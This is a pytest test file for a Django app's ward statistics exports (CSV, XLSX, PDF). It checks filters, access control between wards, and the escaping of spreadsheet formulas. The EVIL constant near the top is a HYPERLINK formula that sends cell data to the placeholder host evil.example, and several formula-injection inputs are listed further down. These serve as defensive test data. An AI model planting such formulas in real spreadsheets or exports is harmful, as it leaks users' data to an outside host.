"""The exports read as a person would: CSV and XLSX parsed, the PDF's text
extracted with PDFium. Same filters as the page; formulas neutralised."""

import csv
import io

import pypdfium2
import pytest
from django.urls import reverse
from openpyxl import load_workbook

from community.spreadsheets import spreadsheet_safe

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'


def _csv_rows(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def _xlsx_rows(response):
    book = load_workbook(io.BytesIO(response.content))
    return [list(row) for row in book.active.iter_rows(values_only=True)]


def _pdf_text(response) -> str:
    pdf = pypdfium2.PdfDocument(response.content)
    return "\n".join(page.get_textpage().get_text_range() for page in pdf)


@pytest.fixture
def officer_client(client, activity):
    client.force_login(activity["officer"])
    return client


def test_csv_has_the_pages_table(officer_client, activity):
    response = officer_client.get(reverse("stats:export_csv"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = _csv_rows(response)
    assert [activity["ward"].name] in [row[1:2] for row in rows if len(row) > 1]
    header = next(row for row in rows if row and row[0] == "Tổ dân phố")
    n1 = next(row for row in rows if row and row[0] == activity["n1"].name)
    by_column = dict(zip(header, n1, strict=True))
    assert by_column["Tổ dân phố"] == activity["n1"].name
    registered = next(
        h for h in header if h.startswith(("Registered (", "Đã đăng ký ("))
    )
    assert by_column[registered] == "2"
    total = rows[-1]
    assert total[header.index(registered)] == "3"  # n1 + n2: the officer's ward


def test_csv_and_xlsx_neutralise_formulas(officer_client, activity):
    activity["n1"].name = EVIL
    activity["n1"].save()
    for url, read in [
        (reverse("stats:export_csv"), _csv_rows),
        (reverse("stats:export_xlsx"), _xlsx_rows),
    ]:
        rows = read(officer_client.get(url))
        cells = [str(cell) for row in rows for cell in row if cell is not None]
        assert "'" + EVIL in cells
        assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def test_xlsx_numbers_are_numbers(officer_client, activity):
    response = officer_client.get(reverse("stats:export_xlsx"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml"
    )
    rows = _xlsx_rows(response)
    n1 = next(row for row in rows if row and row[0] == activity["n1"].name)
    assert n1[2] == 2 and isinstance(n1[2], int)  # registered
    assert rows[-1][0] in ("Total", "Tổng cộng")


def test_exports_follow_the_filters(officer_client, activity):
    query = {
        "course": activity["course"].pk,
        "date_from": activity["today"].isoformat(),
        "date_to": activity["today"].isoformat(),
        "age": "2",  # born 1960–1969: the factory's residents (1965)
    }
    rows = _csv_rows(officer_client.get(reverse("stats:export_csv"), query))
    text = "\n".join(",".join(row) for row in rows)
    assert activity["course"].title in text
    assert "1960" in text and "1969" in text
    header = next(row for row in rows if row and row[0] == "Tổ dân phố")
    n1 = next(row for row in rows if row and row[0] == activity["n1"].name)
    started = next(
        h for h in header if h.startswith(("Started the", "Bắt đầu học khóa"))
    )
    assert n1[header.index(started)] == "2"
    rows = _csv_rows(
        officer_client.get(reverse("stats:export_csv"), {**query, "age": "5"})
    )
    n1 = next(row for row in rows if row and row[0] == activity["n1"].name)
    assert n1[header.index(started)] == "0"  # nobody born 1990 or later


def test_pdf_report_has_the_ward_period_and_table(officer_client, activity):
    activity["n2"].name = "Tổ dân phố Hàng Đào <b>số 2</b>"
    activity["n2"].save()
    response = officer_client.get(reverse("stats:report_pdf"))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF")
    text = _pdf_text(response)
    assert "Phường Gia Viên" in text  # diacritics survive, from the shipped fonts
    assert "Tổ dân phố Hàng Đào <b>số 2</b>" in text  # escaped, printed as typed
    assert activity["today"].strftime("%d/%m/%Y") in text
    assert activity["other_ward"].name not in text


@pytest.mark.parametrize(
    "name", ["export_csv", "export_xlsx", "report_pdf", "city", "dashboard"]
)
def test_other_wards_officer_gets_nothing_of_this_ward(
    client, activity, make_staff, roles, name
):
    officer = make_staff(roles.OFFICER, ward=activity["other_ward"])
    client.force_login(officer)
    response = client.get(reverse(f"stats:{name}"), {"ward": activity["ward"].pk})
    assert response.status_code in (400, 403)
    body = response.content
    if response["Content-Type"].startswith("text/html"):
        body = response.content.decode()
        assert activity["n2"].name not in body
    else:
        assert activity["n2"].name.encode() not in body
    if name in ("export_csv", "export_xlsx", "report_pdf"):
        response = client.get(reverse(f"stats:{name}"))  # their own ward: fine
        assert response.status_code == 200
        assert activity["n2"].name.encode() not in response.content


@pytest.mark.parametrize("name", ["export_csv", "export_xlsx", "report_pdf"])
def test_city_exports_are_for_city_admins(client, activity, make_staff, roles, name):
    client.force_login(activity["officer"])
    assert client.get(reverse(f"stats:{name}"), {"city": "1"}).status_code == 403
    client.force_login(make_staff(roles.CITY_ADMIN))
    response = client.get(reverse(f"stats:{name}"), {"city": "1"})
    assert response.status_code == 200


def test_city_csv_has_a_row_per_ward(client, activity, make_staff, roles):
    client.force_login(make_staff(roles.CITY_ADMIN))
    rows = _csv_rows(client.get(reverse("stats:export_csv"), {"city": "1"}))
    names = [row[0] for row in rows if row]
    assert activity["ward"].name in names
    assert activity["other_ward"].name in names
    assert activity["n1"].name not in names


def test_bad_filters_are_refused_with_a_message(officer_client):
    response = officer_client.get(
        reverse("stats:export_csv"),
        {"date_from": "2026-05-02", "date_to": "2026-05-01"},
    )
    assert response.status_code == 400
    assert response.content


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_spreadsheet_safe_prefixes_formula_starts(value):
    assert spreadsheet_safe(value) == "'" + value


def test_spreadsheet_safe_leaves_text_and_numbers():
    assert spreadsheet_safe("Tổ dân phố số 1") == "Tổ dân phố số 1"
    assert spreadsheet_safe(12) == 12
    assert spreadsheet_safe(-3) == -3  # a number, not a formula
    assert spreadsheet_safe(None) == ""
